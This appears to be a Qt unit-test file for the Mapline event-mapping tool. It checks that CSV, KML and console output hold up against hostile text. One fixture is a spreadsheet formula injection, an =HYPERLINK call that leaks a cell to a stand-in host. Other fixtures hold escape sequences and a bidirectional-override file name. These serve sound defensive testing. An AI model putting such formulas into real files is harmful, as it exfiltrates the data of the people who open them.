// What an export holds when the events' texts are hostile, through the real executable: CSV
// cells a spreadsheet would run as formulas, control characters that would make a KML file
// invalid XML, and file names with a newline in the lines the command prints. The guards are
// checked as units too (CsvFormulaGuard, KmlWriter::xmlSafe, displayPath). The command-line
// tests failed before their fixes (MAPLINE_TEST_EXE, see safeoutput/safeoutputfixtures.h).
#include "exportdialogs/exportfixtures.h"
#include "interop/csvformulaguard.h"
#include "interop/csvreader.h"
#include "interop/kmlwriter.h"
#include "io/displaypath.h"
#include "safeoutput/safeoutputfixtures.h"

#include <QFile>
#include <QTemporaryDir>
#include <QXmlStreamReader>
#include <QtTest>

#include <cmath>

using namespace mapline;
using namespace mapline::test;

namespace {

const QString kFormula = QStringLiteral("=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"details\")");

// Events whose texts attack spreadsheets and XML: formulas in every text field, control
// characters from a dataset, a negative longitude (a number, never guarded).
QList<DatasetRow> hostileRows()
{
    const double none = std::nan("");
    QList<DatasetRow> rows;
    DatasetRow formula = row(QStringLiteral("armed_clash"), TimeRange::day(QDate(2020, 3, 18)), QStringLiteral("+Kunduz"),
                             -68.868, 36.728, {QStringLiteral("@Taliban"), QStringLiteral("-Army")}, kFormula, 0.8);
    formula.event.placeText = QStringLiteral("\tKunduz");
    rows << formula;
    rows << row(QStringLiteral("talks"), TimeRange::day(QDate(2020, 3, 19)), QStringLiteral("Kabul"), 69.18, 34.52, {},
                QStringLiteral("'=already quoted, and -1 +2"), 0.6);
    rows << row(QStringLiteral("shelling"), TimeRange::day(QDate(2020, 3, 20)), QStringLiteral("Kabul"), 69.18, 34.52,
                {QStringLiteral("A\x1b[31mB")},
                QStringLiteral("Clash reported\x01 near the bazaar\x1f, \x0b") + QChar(0xFFFE) + QStringLiteral("."), 0.7);
    rows << row(QStringLiteral("statement"), TimeRange::day(QDate(2020, 3, 21)), QString(), none, none, {},
                QStringLiteral("-5 killed"), 0.5);
    return rows;
}

void fillHostile(const QString &path)
{
    auto store = EventStore::open(path);
    QVERIFY2(store.ok(), qPrintable(store.error()));
    ListSource rows(hostileRows());
    DatasetInfo info;
    info.kind = QStringLiteral("mapline");
    info.path = QStringLiteral("hostile fixture");
    const auto outcome = store.value()->importDataset(info, rows);
    QVERIFY2(outcome.ok(), qPrintable(outcome.error()));
}

// The CSV's records as maps from column name to cell.
QList<QHash<QString, QString>> csvRecords(const QString &path)
{
    QList<QHash<QString, QString>> records;
    CsvReader csv;
    if (!csv.open(path))
        return records;
    QByteArrayList header, fields;
    if (csv.next(header) != CsvReader::Next::Record)
        return records;
    while (csv.next(fields) == CsvReader::Next::Record) {
        QHash<QString, QString> r;
        for (int i = 0; i < header.size() && i < fields.size(); ++i)
            r.insert(QString::fromUtf8(header[i]), QString::fromUtf8(fields[i]));
        records << r;
    }
    return records;
}

QHash<QString, QString> recordOfType(const QList<QHash<QString, QString>> &records, const QString &type)
{
    for (const auto &r : records)
        if (r.value(QStringLiteral("type")) == type)
            return r;
    return {};
}

} // namespace

class TestExportText : public QObject {
    Q_OBJECT
private slots:
    void initTestCase();
    void csvFormulaGuardRoundTrip_data();
    void csvFormulaGuardRoundTrip();
    void csvExportKeepsFormulasFromSpreadsheets();
    void csvRawAndReimportAreExact();
    void xmlSafeReplacesWhatXmlForbids_data();
    void xmlSafeReplacesWhatXmlForbids();
    void kmlExportIsAlwaysXml();
    void displayPathQuotesLikeCoreutils_data();
    void displayPathQuotesLikeCoreutils();
    void namesWithANewlineStayOnOneLine();

private:
    QTemporaryDir mDir;
    QString mDb;
};

void TestExportText::initTestCase()
{
    QVERIFY(mDir.isValid());
    mDb = mDir.filePath(QStringLiteral("hostile.sqlite"));
    fillHostile(mDb);
    QCOMPARE(storedEvents(mDb).size(), 4);
}

void TestExportText::csvFormulaGuardRoundTrip_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("written");
    QTest::newRow("formula") << "=1+2" << "'=1+2";
    QTest::newRow("plus") << "+93 700" << "'+93 700";
    QTest::newRow("minus") << "-1 killed" << "'-1 killed";
    QTest::newRow("at") << "@SUM(A1)" << "'@SUM(A1)";
    QTest::newRow("tab") << "\t=1" << "'\t=1";
    QTest::newRow("carriage return") << "\r=1" << "'\r=1";
    QTest::newRow("quote then formula") << "'=1" << "''=1";
    QTest::newRow("two quotes then formula") << "''+1" << "'''+1";
    QTest::newRow("quote then text") << "'tis" << "'tis";
    QTest::newRow("plain") << "Kunduz" << "Kunduz";
    QTest::newRow("formula later") << "a=1" << "a=1";
    QTest::newRow("empty") << "" << "";
    QTest::newRow("only a quote") << "'" << "'";
}

// Encoding then decoding gives any text back: Mapline's own round trip stays lossless.
void TestExportText::csvFormulaGuardRoundTrip()
{
    QFETCH(QString, text);
    QFETCH(QString, written);
    QCOMPARE(CsvFormulaGuard::encode(text), written);
    QCOMPARE(CsvFormulaGuard::decode(written), text);
    QVERIFY(!CsvFormulaGuard::startsFormula(written) || written.isEmpty());
}

// CSV exports kept spreadsheet formulas (=HYPERLINK(..) sends a cell to a web site when the
// analyst opens the file). In the CSV meant for spreadsheets, every text a spreadsheet would run
// starts with a quote; numbers stay numbers.
void TestExportText::csvExportKeepsFormulasFromSpreadsheets()
{
    const QString out = mDir.filePath(QStringLiteral("guarded.csv"));
    const Run r = runMaplineWith({"export", "--db", mDb, "--out", out});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    const auto records = csvRecords(out);
    QCOMPARE(records.size(), 4);
    for (const auto &record : records)
        for (auto it = record.begin(); it != record.end(); ++it)
            if (it.key() != u"lat" && it.key() != u"lon" && it.key() != u"confidence")
                QVERIFY2(!CsvFormulaGuard::startsFormula(it.value()), qPrintable(it.key() + QStringLiteral(": ") + it.value()));
    const auto clash = recordOfType(records, QStringLiteral("armed_clash"));
    QCOMPARE(clash.value(QStringLiteral("sentence")), QLatin1Char('\'') + kFormula);
    QCOMPARE(clash.value(QStringLiteral("place")), QStringLiteral("'+Kunduz"));
    QCOMPARE(clash.value(QStringLiteral("place_text")), QStringLiteral("'\tKunduz"));
    QCOMPARE(clash.value(QStringLiteral("actors")), QStringLiteral("'@Taliban; -Army"));
    QCOMPARE(clash.value(QStringLiteral("lon")), QStringLiteral("-68.868")); // a number, not guarded
    QCOMPARE(recordOfType(records, QStringLiteral("talks")).value(QStringLiteral("sentence")),
             QStringLiteral("''=already quoted, and -1 +2"));
    QCOMPARE(recordOfType(records, QStringLiteral("statement")).value(QStringLiteral("sentence")),
             QStringLiteral("'-5 killed"));
}

// --raw gives the texts as stored. `mapline import` reads the CSV for spreadsheets back exactly;
// a --raw one too, except that a text beginning with quotes then = + - @ loses one quote (it
// reads as the guarded form of that text: the one case where the two cannot be told apart).
void TestExportText::csvRawAndReimportAreExact()
{
    const QString raw = mDir.filePath(QStringLiteral("raw.csv"));
    Run r = runMaplineWith({"export", "--db", mDb, "--out", raw, "--raw"});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QCOMPARE(recordOfType(csvRecords(raw), QStringLiteral("armed_clash")).value(QStringLiteral("sentence")), kFormula);
    r = runMaplineWith({"export", "--db", mDb, "--out", mDir.filePath(QStringLiteral("x.geojson")), "--raw"});
    QCOMPARE(r.exitCode, 2); // --raw is for CSV only
    QVERIFY2(r.err.contains("--raw applies to CSV only"), r.err.constData());

    const QList<Event> original = storedEvents(mDb);
    for (const QString &name : {QStringLiteral("guarded.csv"), QStringLiteral("raw.csv")}) {
        const QString csv = mDir.filePath(name);
        if (!QFileInfo::exists(csv)) {
            r = runMaplineWith({"export", "--db", mDb, "--out", csv});
            QVERIFY2(r.exitCode == 0, r.err.constData());
        }
        const QString back = mDir.filePath(name + QStringLiteral(".sqlite"));
        r = runMaplineWith({"import", "--db", back, "--keep-outside", csv});
        QVERIFY2(r.exitCode == 0, r.err.constData());
        const QList<Event> events = storedEvents(back);
        QCOMPARE(events.size(), original.size());
        for (int i = 0; i < events.size(); ++i) {
            if (name == u"raw.csv" && original[i].sentence.startsWith(QStringLiteral("'=")))
                QCOMPARE(events[i].sentence, original[i].sentence.mid(1));
            else
                QCOMPARE(events[i].sentence, original[i].sentence);
            QCOMPARE(events[i].place.name, original[i].place.name);
            QCOMPARE(sortedActors(events[i]), sortedActors(original[i]));
        }
    }
}

void TestExportText::xmlSafeReplacesWhatXmlForbids_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("safe");
    const QString fffd(QChar(0xFFFD));
    QTest::newRow("plain") << "Kunduz, Mazār-e Sharīf" << "Kunduz, Mazār-e Sharīf";
    QTest::newRow("tab, newline, return kept") << "a\tb\nc\rd" << "a\tb\nc\rd";
    QTest::newRow("C0 controls") << QStringLiteral("a\x01" "b\x1f") << QStringLiteral("a") + fffd + QStringLiteral("b") + fffd;
    QTest::newRow("NUL") << QString(QChar(0)) << fffd;
    QTest::newRow("U+FFFE and U+FFFF") << QString(QChar(0xFFFE)) + QChar(0xFFFF) << fffd + fffd;
    QTest::newRow("a lone high surrogate") << QStringLiteral("x") + QChar(0xD800) + QStringLiteral("y")
                                           << QStringLiteral("x") + fffd + QStringLiteral("y");
    QTest::newRow("a lone low surrogate at the end") << QStringLiteral("x") + QChar(0xDC00)
                                                     << QStringLiteral("x") + fffd;
    QTest::newRow("a pair kept") << QString::fromUtf8("\xF0\x9F\x8C\x8D") << QString::fromUtf8("\xF0\x9F\x8C\x8D");
}

void TestExportText::xmlSafeReplacesWhatXmlForbids()
{
    QFETCH(QString, text);
    QFETCH(QString, safe);
    QCOMPARE(KmlWriter::xmlSafe(text), safe);
}

// Control characters from a dataset went into the KML verbatim: not XML, so Mapline could not
// import its own export (d12). Every KML parses, and comes back.
void TestExportText::kmlExportIsAlwaysXml()
{
    const QString out = mDir.filePath(QStringLiteral("hostile.kml"));
    Run r = runMaplineWith({"export", "--db", mDb, "--out", out});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QFile file(out);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QXmlStreamReader xml(&file);
    QStringList sentences;
    while (!xml.atEnd()) {
        if (xml.readNext() == QXmlStreamReader::StartElement && xml.name() == u"SimpleData" &&
            xml.attributes().value(QStringLiteral("name")) == u"sentence")
            sentences << xml.readElementText();
    }
    QVERIFY2(!xml.hasError(), qPrintable(QStringLiteral("line %1: %2").arg(xml.lineNumber()).arg(xml.errorString())));
    const QString fffd(QChar(0xFFFD));
    QVERIFY2(sentences.contains(QStringLiteral("Clash reported") + fffd + QStringLiteral(" near the bazaar") + fffd +
                                QStringLiteral(", ") + fffd + fffd + QStringLiteral(".")),
             qPrintable(sentences.join(QLatin1Char('|'))));
    QVERIFY(sentences.contains(kFormula)); // KML is not a spreadsheet: texts as they are
    const QString back = mDir.filePath(QStringLiteral("kml-back.sqlite"));
    r = runMaplineWith({"import", "--db", back, "--keep-outside", out});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QCOMPARE(storedEvents(back).size(), 3); // the event without a position is not in a KML
}

void TestExportText::displayPathQuotesLikeCoreutils_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("shown");
    QTest::newRow("plain") << "/data/events 2020.csv" << "/data/events 2020.csv";
    QTest::newRow("newline") << "a\nb.csv" << "'a'$'\\n''b.csv'";
    QTest::newRow("tab and a quote") << "it's\t.csv" << "'it'\\''s'$'\\t''.csv'";
    QTest::newRow("escape sequence") << "x\x1b[31m.csv" << "'x'$'\\E''[31m.csv'";
    QTest::newRow("control character") << "x\x01" << "'x'$'\\001'";
    QTest::newRow("bidirectional override") << QStringLiteral("cod") + QChar(0x202E) + QStringLiteral("fdp.csv")
                                            << "'cod'$'\\u202e''fdp.csv'";
}

void TestExportText::displayPathQuotesLikeCoreutils()
{
    QFETCH(QString, path);
    QFETCH(QString, shown);
    QCOMPARE(displayPath(path), shown);
    QVERIFY(!displayPath(path).contains(u'\n'));
    QCOMPARE(messageLine(QStringLiteral("cannot write %1: why\n").arg(path), {path}),
             QStringLiteral("cannot write %1: why\\n").arg(shown));
}

// A newline in a file name split an output line, so a script reading one line per file
// misread it. Names are quoted as coreutils quotes them, in every line the commands print.
void TestExportText::namesWithANewlineStayOnOneLine()
{
    const QString out = mDir.filePath(QStringLiteral("a\nb.geojson"));
    Run r = runMaplineWith({"export", "--db", mDb, "--out", out});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    QVERIFY(QFileInfo::exists(out));
    QCOMPARE(r.out.count('\n'), 1);
    QVERIFY2(r.out.contains("a'$'\\n''b.geojson"), r.out.constData());

    r = runMaplineWith({"export", "--db", mDb, "--out", mDir.filePath(QStringLiteral("no\nsuch/x.geojson"))});
    QCOMPARE(r.exitCode, 1);
    QCOMPARE(r.err.count('\n'), 1);

    const QString article = mDir.filePath(QStringLiteral("story\nof the day.txt"));
    QVERIFY(QFile::copy(sampleArticle(), article));
    const QString csv = mDir.filePath(QStringLiteral("guarded.csv"));
    const QString db = mDir.filePath(QStringLiteral("names.sqlite"));
    r = runMaplineWith({"import", "--db", db, "--keep-outside", article, csv});
    QVERIFY2(r.exitCode == 0, r.err.constData());
    for (const QByteArray &line : r.out.split('\n')) {
        if (line.isEmpty())
            continue;
        static const QRegularExpression known(
            QStringLiteral("^(imported   |unchanged  |[0-9]+ (article|dataset)s? imported)"));
        QVERIFY2(QString::fromUtf8(line).contains(known), line.constData());
    }
    QVERIFY2(r.out.contains("/story'$'\\n''of the day.txt'"), r.out.constData());
}

QTEST_GUILESS_MAIN(TestExportText)
#include "tst_exporttext.moc"
